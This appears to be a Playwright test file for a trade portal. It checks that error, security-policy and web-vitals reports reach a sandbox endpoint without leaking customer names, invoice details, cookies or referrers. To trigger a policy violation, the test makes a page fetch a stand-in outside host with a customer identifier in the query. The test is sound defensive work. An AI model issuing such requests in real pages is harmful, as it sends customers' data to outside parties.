import type { Browser } from '@playwright/test'
import { controlAddress, type Sandbox } from '@trade-portal/mocks/sandbox'
import { expect, storeSession, test, type Portal } from './fixtures.ts'

/**
 * Where the portal sends reports. The fixtures replace the supplier's address in this setting with the sandbox's, so the
 * reports arrive at the sandbox.
 */
const endpoint = 'http://localhost:4300/reports'

interface Received {
  readonly contentType: string
  readonly referrer: string | null
  readonly cookie: string | null
  readonly content: Readonly<Record<string, unknown>>
}

async function received(supplier: Sandbox): Promise<readonly Received[]> {
  return (await fetch(controlAddress(supplier, 'reports'))).json()
}

/**
 * Opens an invoice whose screen cannot be rendered, because of an error that contains a customer's name; then breaks the
 * security policy, and leaves.
 * @returns the hosts that the page has sent anything to
 */
async function haveTrouble(browser: Browser, portal: Portal, supplier: Sandbox): Promise<ReadonlySet<string>> {
  // Uses a new page, because the fixtures' page fails the test on any error.
  const page = await browser.newPage()
  const hosts = new Set<string>()
  page.on('request', (request) => hosts.add(new URL(request.url()).host))
  await storeSession(page, portal, supplier)
  await page.goto(`${portal.url}/search?value=Hargreaves`)
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  // Makes the screen of invoices throw an error when it cuts a long comment.
  await page.evaluate(() => {
    const get = () => {
      throw new RangeError('Sam Hargreaves owes $1,234.50 for 500001-0')
    }
    Object.defineProperty(Intl, 'Segmenter', { get })
  })
  await page.getByRole('link', { name: 'Invoices' }).first().click()
  await expect(page.getByRole('heading', { name: 'This page cannot be shown' })).toBeVisible()
  await page.evaluate(() => fetch('https://elsewhere.example/?customer=HAR001').catch(() => undefined))
  await page.evaluate(() => fetch('https://elsewhere.example/?customer=HAR001').catch(() => undefined))
  await page.goto('about:blank')
  await page.close()
  return hosts
}

test.describe('with an endpoint', () => {
  test.use({ settings: { reports: { endpoint, errors: true, vitals: true } } })

  test('P10 reports arrive, and contain no private data', { tag: '@gate' }, async ({ browser, portal, supplier }) => {
    await haveTrouble(browser, portal, supplier)
    const vitalNames = async () =>
      (await received(supplier)).flatMap(({ content: { type, name } }) => (type === 'vital' ? [String(name)] : []))
    await expect.poll(async () => (await vitalNames()).toSorted()).toEqual(['CLS', 'INP', 'LCP'])
    const version = {
      version: expect.stringMatching(/^\d+\.\d+\.\d+$/),
      commit: expect.stringMatching(/^[\da-f+a-z]*$/),
    }
    const at = expect.stringMatching(/^(assets\/[\w~-]+\.js:\d+:\d+)?$/)
    const reports = await received(supplier)
    const ofType = (type: string) => reports.map(({ content }) => content).filter((content) => content['type'] === type)
    expect(ofType('error')).toEqual([{ type: 'error', error: 'RangeError', at, route: '/invoices', ...version }])
    expect(ofType('violation')).toEqual([
      { type: 'violation', directive: 'connect-src', blocked: 'address', at, route: '/invoices', ...version },
    ])
    for (const vital of ofType('vital'))
      expect(vital).toEqual({
        ...version,
        type: 'vital',
        name: vital['name'],
        value: expect.any(Number),
        route: '/search',
      })
    expect(reports).toHaveLength(5)
    for (const report of reports)
      expect(report).toMatchObject({ contentType: 'text/plain;charset=UTF-8', referrer: null, cookie: null })
    expect(JSON.stringify(reports)).not.toMatch(/Hargreaves|HAR001|1,234|500001|elsewhere/)
  })
})

test('a portal without an endpoint sends no report', { tag: '@gate' }, async ({ browser, portal, supplier }) => {
  const hosts = await haveTrouble(browser, portal, supplier)
  expect(await received(supplier)).toEqual([])
  // `elsewhere.example` is left out, because the policy blocks its requests before they are sent.
  expect([...hosts].filter((host) => host !== 'elsewhere.example').toSorted()).toEqual(
    [new URL(portal.url).host, new URL(supplier.url).host].toSorted(),
  )
})
